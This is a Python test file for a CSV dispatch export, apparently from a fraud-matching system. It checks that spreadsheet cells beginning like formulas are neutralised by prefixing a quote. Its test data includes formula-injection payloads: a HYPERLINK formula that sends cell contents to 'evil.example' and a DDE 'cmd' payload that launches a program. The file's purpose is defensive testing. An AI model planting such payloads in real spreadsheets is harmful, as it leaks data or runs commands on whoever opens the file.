FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1", "=1"]


@pytest.mark.parametrize("formula", FORMULAS)
def test_dispatch_csv_cells_that_start_like_a_formula_are_neutralised(ledger, tmp_path, formula):
    import pandas as pd

    from matching import orders as mo

    suspects = pd.DataFrame([{
        "rule": "paid_after_death", "subject": f"{7:032x}", "id_masked": formula, "area": "330106",
        "amount_at_risk": 10.0, "months": 1, "detail": json.dumps(formula),
    }], columns=list(mo.COLUMNS))
    got = mo.record(ledger, date(2026, 3, 1), suspects)
    # an order whose district and detail start like formulas too (write_dispatch takes any orders)
    hostile = [replace(got[0], detail=formula, district=formula)]
    paths = mo.write_dispatch(tmp_path / "out", hostile)
    for path in paths:
        rows = list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"))))
        for row in rows[1:]:
            for cell in row:
                assert not cell.startswith(tuple("=+-@\t\r")) or mo._PLAIN_NUMBER.fullmatch(cell), (path.name, cell)
        header = rows[0]
        cells = dict(zip(header, rows[1]))
        assert cells["id_masked"] == "'" + formula.strip()
        assert cells["district"] == "'" + formula
        if "detail" in cells:
            assert cells["detail"] == "'" + formula


@pytest.mark.parametrize(("cell", "out"), [
    ("-12.50", "-12.50"), ("+3", "+3"), ("1e5", "1e5"), ("-1e-5", "-1e-5"), ("上城区", "上城区"), ("", ""),
    ("-", "'-"), ("-1+1", "'-1+1"), ("-1\n", "'-1\n"), ("=1", "'=1"), ("@x", "'@x"), ("+", "'+"), ("'=1", "'=1"),
])
def test_neutralise_cell_keeps_plain_numbers_and_quotes_formulas(cell, out):
    from matching.orders import neutralise_cell

    assert neutralise_cell(cell) == out
